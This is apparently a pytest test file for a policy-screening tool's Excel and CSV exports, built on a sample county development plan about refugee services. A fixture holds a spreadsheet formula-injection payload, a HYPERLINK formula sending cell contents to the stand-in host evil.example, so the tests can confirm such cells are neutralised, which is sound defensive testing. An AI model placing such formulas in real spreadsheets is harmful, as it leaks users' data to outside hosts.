"""XLSX and CSV exports: real engine output read back with openpyxl and csv."""

from __future__ import annotations

import csv
import dataclasses
import io
import zipfile

import openpyxl
import pytest

from screener.report.i18n import t
from screener.report.xlsx_report import (
    CHECKLIST_COLUMNS,
    FINDING_COLUMNS,
    render_csv,
    render_xlsx,
    safe_cell,
)
from screener.screen import ScreenOptions, Screener

PLAN_EN = """# County Integrated Development Plan 2023-2027

## Situation analysis

### Health

The county referral hospital and 42 health centres serve 600,000 residents. Refugees and asylum seekers from the camps use the county health facilities, which face shortages of staff and medicines.

### Education

Enrolment in primary schools is 87 percent. Many refugee children and children of migrant workers are out of school because they lack birth certificates.

## Objectives

Ensure that refugees and migrants have access to primary health care on the same terms as nationals.

Increase enrolment of refugee children in county schools.

## Programmes

Programme: mobile clinics for pastoralist and migrant communities along the border.

Project: remedial classes and language support for refugee and returnee pupils.

## Monitoring and evaluation

Indicator: number of refugees treated in county health facilities; baseline 5,000, target 2027 12,000.

## Budget

The budget for the refugee health programme is USD 1,200,000 over five years.
"""


@pytest.fixture(scope="module")
def result(tmp_path_factory):
    path = tmp_path_factory.mktemp("plan") / "cidp.md"
    path.write_text(PLAN_EN, encoding="utf-8")
    return Screener(options=ScreenOptions(use_classifier=False)).screen_file(path)


@pytest.fixture(scope="module")
def nasty(result):
    """The same result with findings whose text would run as formulas or break XML."""
    f0, f1 = result.findings[0], result.findings[1]
    evil = dataclasses.replace(f0, text='=HYPERLINK("http://evil.example/?"&A1,"click")', matched="@SUM(A1:A9)")
    dash = dataclasses.replace(f1, text="- refugees\x0b and migrants +2 percent", section_path=("+Annex", "-1"))
    findings = (evil, dash) + result.findings[2:]
    return dataclasses.replace(result, findings=findings, _index={})


def _wb(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data))


def _rows(ws):
    return [list(r) for r in ws.iter_rows(values_only=True)]


def test_engine_gives_a_multi_sector_result(result):
    assert result.report_lang == "en"
    assert {"health", "education"} <= set(result.summary["sectors_present"])
    assert len(result.findings) >= 4


def test_sheets_headers_filters_and_frozen_rows(result):
    wb = _wb(render_xlsx(result))
    assert wb.sheetnames == ["Findings", "Checklist", "Missed passages", "About"]
    findings, checklist, missed, about = wb.worksheets
    assert [c.value for c in findings[1]] == [t(f"col_{k}", "en") for k in FINDING_COLUMNS]
    assert [c.value for c in checklist[1]] == [t(f"col_{k}", "en") for k in CHECKLIST_COLUMNS]
    assert [c.value for c in missed[1]][:3] == ["Text", "Language (en/es/fr)", "Label (1 = about migration, 0 = not)"]
    last = openpyxl.utils.get_column_letter(len(FINDING_COLUMNS))
    assert findings.auto_filter.ref == f"A1:{last}{len(result.findings) + 1}"
    assert checklist.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(len(CHECKLIST_COLUMNS))}{checklist.max_row}"
    assert findings.freeze_panes == "A2" and checklist.freeze_panes == "A2"
    quote_col = FINDING_COLUMNS.index("quote") + 1
    assert findings.cell(2, quote_col).alignment.wrap_text
    assert findings.column_dimensions[openpyxl.utils.get_column_letter(quote_col)].width >= 60


def test_one_row_per_finding_with_its_evidence(result):
    ws = _wb(render_xlsx(result)).worksheets[0]
    rows = _rows(ws)[1:]
    assert len(rows) == len(result.findings)
    col = {k: i for i, k in enumerate(FINDING_COLUMNS)}
    for f, row in zip(result.findings, rows):
        assert row[col["id"]] == f.id
        assert row[col["quote"]] == f.text
        assert row[col["start"]] == f.start and row[col["end"]] == f.end
        assert row[col["sha256"]] == result.document.sha256
        assert row[col["language"]] == "en"
        assert row[col["negated"]] is f.context.negated
        assert row[col["review"]] is None


def test_review_column_has_a_drop_down(result):
    ws = _wb(render_xlsx(result)).worksheets[0]
    dvs = ws.data_validations.dataValidation
    assert len(dvs) == 1
    dv = dvs[0]
    assert dv.type == "list" and dv.formula1 == '"accepted,rejected"' and dv.allow_blank
    letter = openpyxl.utils.get_column_letter(FINDING_COLUMNS.index("review") + 1)
    assert f"{letter}2" in dv.sqref and f"{letter}{len(result.findings) + 1}" in dv.sqref


def test_spanish_report_localises_sheets_headers_and_drop_down(tmp_path):
    path = tmp_path / "cidp.md"
    path.write_text(PLAN_EN, encoding="utf-8")
    res = Screener(options=ScreenOptions(use_classifier=False, report_lang="es")).screen_file(path)
    wb = _wb(render_xlsx(res))
    assert wb.sheetnames == ["Hallazgos", "Lista de verificación", "Pasajes omitidos", "Acerca de"]
    assert wb.worksheets[0].data_validations.dataValidation[0].formula1 == '"aceptado,rechazado"'
    about = "\n".join(str(v) for r in _rows(wb.worksheets[3]) for v in r if v)
    assert "Cómo revisar" in about and "screener train" in about


def test_values_in_the_report_language_beside_stable_codes(tmp_path):
    path = tmp_path / "cidp.md"
    path.write_text(PLAN_EN, encoding="utf-8")
    res = Screener(options=ScreenOptions(use_classifier=False, report_lang="es")).screen_file(path)
    wb = _wb(render_xlsx(res))
    rows = _rows(wb.worksheets[0])[1:]
    col = {k: i for i, k in enumerate(FINDING_COLUMNS)}
    for f, row in zip(res.findings, rows):
        assert row[col["kind"]] == f.kind and row[col["stage"]] == f.stage  # codes: the same in every language
        assert row[col["kind_text"]] == t(f"kind_{f.kind}", "es")
        assert row[col["stage_text"]] == t(f"stage_{f.stage}", "es")
    crow = _rows(wb.worksheets[1])[1:]
    ccol = {k: i for i, k in enumerate(CHECKLIST_COLUMNS)}
    levels = {r[ccol["level_text"]] for r in crow}
    assert levels <= {"esencial", "recomendado"} and levels
    assert {r[ccol["level"]] for r in crow} <= {"core", "recommended"}
    assert {r[ccol["status_code"]] for r in crow} <= {"addressed", "partly", "missing"}
    english = {"possible", "classifier", "unspecified", "core", "lexicon", "recommended"}
    people = [r[col[k]] for r in rows for k in ("kind_text", "concept_text", "stage_text", "context_text")]
    assert not english & set(people)


def test_checklist_sheet_one_row_per_sector_item(result):
    ws = _wb(render_xlsx(result)).worksheets[1]
    rows = _rows(ws)[1:]
    items = [(s, c) for s in result.sectors for c in s.checklist]
    assert len(rows) == len(items)
    col = {k: i for i, k in enumerate(CHECKLIST_COLUMNS)}
    for (sec, c), row in zip(items, rows):
        assert row[col["sector_id"]] == sec.sector and row[col["item"]] == c.id
        assert row[col["status"]] == t(f"status_{c.status}", "en")
        assert (row[col["evidence"]] or "") == ", ".join(c.evidence)
        if c.status == "addressed":
            assert not row[col["recommendation"]]
        else:
            assert row[col["recommendation"]] == (c.recommendation.get("en") or "")


def test_about_sheet_names_document_and_versions(result):
    ws = _wb(render_xlsx(result)).worksheets[3]
    text = "\n".join(str(v) for r in _rows(ws) for v in r if v is not None)
    assert result.document.sha256 in text
    assert result.provenance["tool"] in text and result.provenance["lexicon"] in text
    assert "How to review" in text and "Missed passages" in text


def test_formula_injection_is_neutralised(nasty):
    data = render_xlsx(nasty)
    wb = _wb(data)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula"
    rows = _rows(wb.worksheets[0])
    col = {k: i for i, k in enumerate(FINDING_COLUMNS)}
    assert rows[1][col["quote"]] == "'" + nasty.findings[0].text
    assert rows[1][col["matched"]] == "'@SUM(A1:A9)"
    assert rows[2][col["quote"]] == "'- refugees and migrants +2 percent"  # \x0b stripped too
    assert rows[2][col["section_path"]] == "'+Annex › -1"
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in z.read(n) for n in sheets)


def test_safe_cell():
    assert safe_cell("=1+1") == "'=1+1"
    assert safe_cell("\t=1") == "'\t=1"
    assert safe_cell("plain") == "plain"
    assert safe_cell(-3) == -3 and safe_cell(None) is None and safe_cell(True) is True
    assert len(safe_cell("x" * 40000)) <= 32767


def test_xlsx_is_reproducible(result):
    assert render_xlsx(result) == render_xlsx(result)


def test_csv_exports(nasty):
    out = render_csv(nasty)
    assert set(out) == {"findings.csv", "checklist.csv"}
    for text in out.values():
        assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(out["findings.csv"].lstrip("\ufeff"), newline="")))
    assert rows[0] == [t(f"col_{k}", "en") for k in FINDING_COLUMNS]
    assert len(rows) == len(nasty.findings) + 1
    col = {k: i for i, k in enumerate(FINDING_COLUMNS)}
    assert rows[1][col["quote"]].startswith("'=HYPERLINK")
    assert rows[2][col["quote"]].startswith("'- refugees")
    assert rows[1][col["negated"]] in ("TRUE", "FALSE")
    checklist = list(csv.reader(io.StringIO(out["checklist.csv"].lstrip("\ufeff"), newline="")))
    assert len(checklist) == 1 + sum(len(s.checklist) for s in nasty.sectors)
    # encodes to UTF-8 with accents intact (bytes Excel sees)
    assert out["checklist.csv"].encode("utf-8").startswith(b"\xef\xbb\xbf")


def test_csv_files_for_a_single_output(result, tmp_path):
    from screener.cli.common import write_atomic
    from screener.classify.reviewed import load_reviewed
    from screener.report.xlsx_report import csv_files

    files = csv_files(result, tmp_path / "report.csv")
    assert list(files) == [tmp_path / "report.csv", tmp_path / "report.checklist.csv"]
    for path, text in files.items():
        write_atomic(path, text)
    raw = (tmp_path / "report.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw and b"\r\r\n" not in raw
    assert load_reviewed(tmp_path / "report.csv") == []  # a fresh export: nothing reviewed yet
